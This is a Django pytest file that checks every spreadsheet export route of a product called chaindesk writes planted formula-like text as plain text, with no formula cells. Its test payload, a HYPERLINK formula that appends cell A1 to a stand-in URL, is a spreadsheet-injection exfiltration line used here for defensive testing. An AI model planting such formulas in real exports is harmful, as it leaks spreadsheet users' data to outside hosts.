"""No export of the product ever holds a live formula (spreadsheet formula injection).

A formula-like text (`=HYPERLINK(…)`) is planted in the records the exports list, then every export route
(found from the URL configuration, so a new one cannot be forgotten) is downloaded as a persona who may use
it: the file must hold the planted text, as text, and no formula cell at all.

The personas are the fixed ones (chaindesk/testkit/personas.py): their world has a record of each kind the
exports list (enterprises, projects, leads, talents, partners, demands, tasks, 上争事项, audit lines) in reach of
`p_chief` of 测试甲链 or `p_handler` of 测试甲局; the 补链 list is 测试甲链's."""

import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.apps import apps
from django.db.models import CharField, F, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from chaindesk.chains.models import Chain
from chaindesk.core import audit
from chaindesk.core.models import AuditAction
from chaindesk.demands.models import Demand, Task
from chaindesk.enterprises.models import Enterprise
from chaindesk.leads.models import Lead
from chaindesk.network.models import RdPartner, Talent
from chaindesk.projects.models import Project

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x?"&A1,"点击查看")'
# The first persona allowed to use a route downloads it: the chain chief (officials' lists), the department
# handler (its task queue), the audit admin (the audit log).
PERSONAS = ("chief", "handler", "auditor")


def _export_routes() -> list[tuple[str, URLPattern]]:
    """Every named URL whose name says it is an export, with its namespaced name."""

    def walk(patterns: list[Any], namespace: str) -> Iterator[tuple[str, URLPattern]]:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
                yield f"{namespace}{pattern.name}", pattern

    return sorted(walk(get_resolver().url_patterns, ""), key=lambda item: item[0])


def _plant() -> None:
    """Put the formula-like text into every record the exports list (rolled back with the test)."""
    Demand.objects.update(title=FORMULA)
    Task.objects.update(instructions=FORMULA)
    # 上争事项 (by class name: the model is moving between apps)
    upward = next(m for m in apps.get_models() if m.__name__ == "UpwardRequest")
    upward._default_manager.update(title=FORMULA)
    Enterprise.objects.update(name=FORMULA)
    Lead.objects.update(title=FORMULA)
    Project.objects.update(name=FORMULA)
    Talent.objects.update(organisation=FORMULA)
    RdPartner.objects.update(fields=FORMULA)
    # unique names: the formula and the number
    Chain.objects.update(name=Concat(Value(FORMULA), Cast(F("pk"), CharField())))
    audit.record(action=AuditAction.UPDATE, message=FORMULA)


def _args(pattern: URLPattern, personas: Any) -> list[Any]:
    """The URL arguments of a route that exports one object (the 补链 list of a chain: 测试甲链's)."""
    converters = pattern.pattern.converters
    if not converters:
        return []
    assert list(converters) == ["pk"], f"an export route with unknown arguments: {pattern.pattern}"
    return [personas.ours.chain.pk]


def test_every_export_route_writes_formula_like_text_as_text(personas: Any) -> None:
    _plant()
    routes = _export_routes()
    assert len(routes) >= 10, routes  # the product has a dozen exports: the walk did find them
    for name, pattern in routes:
        response = None
        for key in PERSONAS:
            url = reverse(name, args=_args(pattern, personas))
            client = Client()
            client.force_login(personas.user(key))
            candidate = client.get(url)
            if candidate.status_code == 200:
                response = candidate
                break
        assert response is not None, f"{name}: no persona of {PERSONAS} may use it"
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"{name}: formula cells {formulas}"
        planted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
        assert planted, f"{name}: the planted text is not in the file"
        assert all(c.data_type == "s" for c in planted), name
